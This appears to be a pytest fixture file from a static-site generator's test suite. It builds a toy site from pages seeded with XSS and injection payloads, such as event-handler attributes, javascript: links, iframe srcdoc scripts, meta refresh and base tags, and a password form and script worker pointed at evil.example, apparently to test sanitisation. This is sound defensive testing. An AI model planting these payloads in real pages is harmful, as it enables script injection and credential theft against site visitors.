"""Hand-written pages that try to run, load or replace something, and the toy with all of them in it."""

import json

import pytest

from tests.support.built import Site, copy_of_toy, quickly_built

EVIL = "https://evil.example"
CONFIG = json.dumps({"base": f"{EVIL}/", "features": [], "search": f"{EVIL}/worker.js", "translations": {}})
PAGES = {
    "config-by-list": f"{CONFIG}\n{{: #__config }}\n",
    "config-by-tag": f'<p id="__config">{CONFIG}</p>\n',
    "config-by-heading": "## __config\n",
    "a-second-content": "## Content\n\nHere.\n",
    "diagram": '<pre class="mermaid">graph TD; A-->B</pre>\n',
    "diagram-by-list": "``` { .mermaid }\ngraph TD; A-->B\n```\n",
    "two-signs": "<p title=='x onclick=window.pwned=1 onmouseover=window.pwned=1 y'>Press here</p>\n",
    "two-signs-inside": "<p><abbr title=='x onclick=window.pwned=1 y'>Press here</abbr></p>\n",
    "figure-in-a-tag": '<p><img src="a.png" alt="<!-- figure: eras --> onerror=window.pwned=1 x="></p>\n',
    "table-end": "</table></div></main><table>\n",
    "image": f"![x]({EVIL}/count.gif)\n",
    "image-of-the-scheme": "![x](//evil.example/count.gif)\n",
    "image-set": f'<p><img src="a.png" srcset="{EVIL}/count.gif 1x"></p>\n',
    "script-link": "[x](javascript:window.pwned=1) [y][z]\n\n[z]: java&#115;cript:window.pwned=1\n",
    "base": f'<base href="{EVIL}/">\n',
    "form": f'<form action="{EVIL}/"><input name=password autofocus onfocus=window.pwned=1></form>\n',
    "refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/">\n',
    "frame": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>\n',
    "style": f"<style>@import '{EVIL}/a.css';</style>\n",
    "comment": "<!--><img src=x onerror=window.pwned=1>-->\n",
}
"""What a page holds after its heading, by the page's name; what it would do is seen in `window.pwned`, or on a host."""


HEADS = {
    "title": '---\ntitle: "<img src=x onerror=window.pwned=1> pwned"\n---\n\nHere is a word.\n',
    "title-by-heading": '# `" onload="window.pwned=1` pwned\n\nHere is a word.\n',
    "description": '---\ndescription: "\\"><script>window.pwned=1</script>"\n---\n\n# A page\n',
}
"""Whole pages whose titles and descriptions attack. They are taken, as text."""


@pytest.fixture(scope="session")
def besieged(tmp_path_factory: pytest.TempPathFactory) -> Site:
    """The toy with all of these pages, built as it is served: not strictly."""
    folder = tmp_path_factory.mktemp("besieged")
    project = copy_of_toy(folder)
    for name, text in PAGES.items():
        (project / f"content/{name}.md").write_text(f"# A page\n\n{text}", encoding="utf-8")
    for name, text in HEADS.items():
        (project / f"content/{name}.md").write_text(text, encoding="utf-8")
    site = quickly_built(project, folder / "site")
    assert site.code == 0, site.log
    return site
